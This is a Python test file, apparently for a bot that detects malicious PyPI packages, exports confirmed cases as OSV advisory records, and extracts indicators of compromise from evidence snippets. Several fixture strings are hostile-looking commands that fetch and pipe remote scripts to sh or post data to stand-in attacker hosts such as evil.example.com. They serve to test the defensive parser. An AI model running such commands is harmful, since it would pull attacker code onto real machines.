import json
from pathlib import Path

import pytest

from bot.escalation.osv import PUBLIC_INDEX, export, iocs
from bot.store.cases import move, put_verdict, take_down
from bot.store.database import Database
from scanner.report import ReleaseFacts
from tests.bot.cases import T0, finding, open_case, report


async def test_confirmed_cases_become_records_without_id_and_summary(tmp_path: Path) -> None:
    db = await Database.open(tmp_path / "meerkat.db")
    try:
        await open_case(db, report("leftopen"))
        for name in ("examplepkg", "ownerleft"):
            case_id = await open_case(db, report(name, "1.0"), facts=ReleaseFacts(first_release=True))
            async with db.transaction() as tx:
                if name == "examplepkg":
                    await put_verdict(tx, case_id, "confirmed", T0 + 60)
                await move(
                    tx, case_id, "confirmed" if name == "examplepkg" else "removed", actor="x", event="x", now=T0
                )
        assert await export(db, tmp_path / "out") == 1
        assert await export(db, tmp_path / "out") == 1
        (file,) = (tmp_path / "out").rglob("*.*")
        assert file.relative_to(tmp_path / "out").parts[0] == "examplepkg"
        record = json.loads(file.read_text())
    finally:
        await db.close()
    assert not {"id", "summary"} & record.keys()
    assert record["schema_version"] == "1.7.4"
    assert record["affected"] == [{"package": {"ecosystem": "PyPI", "name": "examplepkg"}, "versions": ["1.0"]}]
    assert record["published"] == "2027-01-15T08:01:00Z"
    assert "runs at installation" in record["details"]
    assert record["references"][0]["type"] == "EVIDENCE"
    assert "/project/examplepkg/1.0/packages/" in record["references"][0]["url"]


async def test_nothing_to_export_leaves_an_empty_folder_and_a_file_is_refused(tmp_path: Path) -> None:
    db = await Database.open(tmp_path / "meerkat.db")
    try:
        assert await export(db, tmp_path / "new" / "out") == 0
        assert list((tmp_path / "new" / "out").iterdir()) == []
        with pytest.raises(OSError, match=r"meerkat\.db"):
            await export(db, tmp_path / "meerkat.db")
    finally:
        await db.close()


@pytest.mark.parametrize("acts", [["dismiss"], ["quarantine"], ["quarantine", "dismiss"]])
async def test_a_case_that_is_dismissed_or_cleared_keeps_no_record(tmp_path: Path, acts: list[str]) -> None:
    db = await Database.open(tmp_path / "meerkat.db")
    try:
        case_id = await open_case(db)
        async with db.transaction() as tx:
            await put_verdict(tx, case_id, "confirmed", T0)
            await move(tx, case_id, "reported", actor="PyPI", event="reported", now=T0)
            if "quarantine" in acts:
                await take_down(tx, "examplepkg", None, "project quarantined", T0, now=T0)
        assert await export(db, tmp_path / "out") == 1
        async with db.transaction() as tx:
            if "dismiss" in acts:
                await put_verdict(tx, case_id, "dismissed", T0)
            else:
                await take_down(tx, "examplepkg", None, "project quarantine cleared", T0, now=T0)
        assert await export(db, tmp_path / "out") == 0
        async with db.transaction() as tx:
            await take_down(tx, "examplepkg", None, "remove project", T0, now=T0)
        assert await export(db, tmp_path / "out") == 0
    finally:
        await db.close()
    assert list((tmp_path / "out").rglob("*.json")) == []


def test_indicators_are_whole_addresses_only() -> None:
    evidence = [
        finding(
            snippet="post('https://collector.example.com/up?k=1%20') get('https://example.org') 'http://198.41.0.4/a'"
        )
    ]
    assert iocs(evidence) == {
        "urls": ["http://198.41.0.4/a", "https://collector.example.com/up?k=1%20"],
        "ip_addresses": ["198.41.0.4"],
    }


@pytest.mark.parametrize(
    "snippet",
    [
        "curl https://evil.example.com/a.sh;sh a.sh",
        "see https://evil.example.com/a.sh, and more",
        "from https://evil.example.com/a.sh. Then",
    ],
)
def test_what_stands_behind_an_address_is_none_of_it(snippet: str) -> None:
    assert iocs([finding(snippet=snippet)]) == {"urls": ["https://evil.example.com/a.sh"]}


@pytest.mark.parametrize(
    "snippet",
    [
        "requests.post('https://evil.example.com/part01/par",
        "get(f'https://evil.example.com/{name}/x')",
        "get(f'https://evil.example.com/a/{name}')",
        "get('https://evil.example.com/a%s' % x)",
        "curl https://evil.example.com/$HOME/x | sh",
        "get('http://user:pw@evil.example.com/x')",
        "get('http://evil.example.com:pw@host/x')",
        "get('http://127.0.0.1:8000/x') get('http://[')",
        "get('http://[fe80::1]/x') get('http://100.64.1.1/x') get('http://224.0.0.1/x') get('http://010.1.1.1/x')",
        f"get('{PUBLIC_INDEX}/simple/requests/') get('https://files.example.org/packages/x.whl')",
    ],
)
def test_what_is_no_whole_address_of_somebody_is_no_indicator(snippet: str) -> None:
    own = (PUBLIC_INDEX.removeprefix("https://"), "example.org")
    assert iocs([finding(snippet=snippet)], own) == {}
